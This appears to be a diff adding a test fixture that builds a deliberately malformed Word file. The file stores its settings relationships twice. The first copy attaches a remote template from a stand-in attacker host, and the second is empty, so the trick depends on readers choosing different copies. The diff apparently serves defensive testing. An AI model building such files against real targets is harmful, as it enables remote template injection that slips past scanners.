@@ -556,3 +556,23 @@ def hyperlink_field_docx(code: str, simple: bool = False) -> bytes:
     return _docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
                  f'{escape(code)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                  '<w:r><w:t>annex</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def part_stored_twice_docx() -> bytes:
+    """A document whose settings' relationships are stored twice: the first copy attaches a template kept on
+    another computer, the second is empty (Gnumeric's zip reader reads the first copy of a name, others the
+    last; found by a fresh attack)."""
+    import warnings
+
+    data = _docx(parts={"word/_rels/document.xml.rels": _relationships(("settings", "settings.xml", "")),
+                        "word/settings.xml": f"<w:settings {_W}/>".encode()})
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            dst.writestr(info.filename, src.read(info))
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")  # (zipfile warns of a duplicate name: what this document is made of)
+            dst.writestr("word/_rels/settings.xml.rels", _relationships(
+                ("attachedTemplate", "http://attacker.example/board-template.dotm", "External")))
+            dst.writestr("word/_rels/settings.xml.rels", _relationships())
+    return out.getvalue()
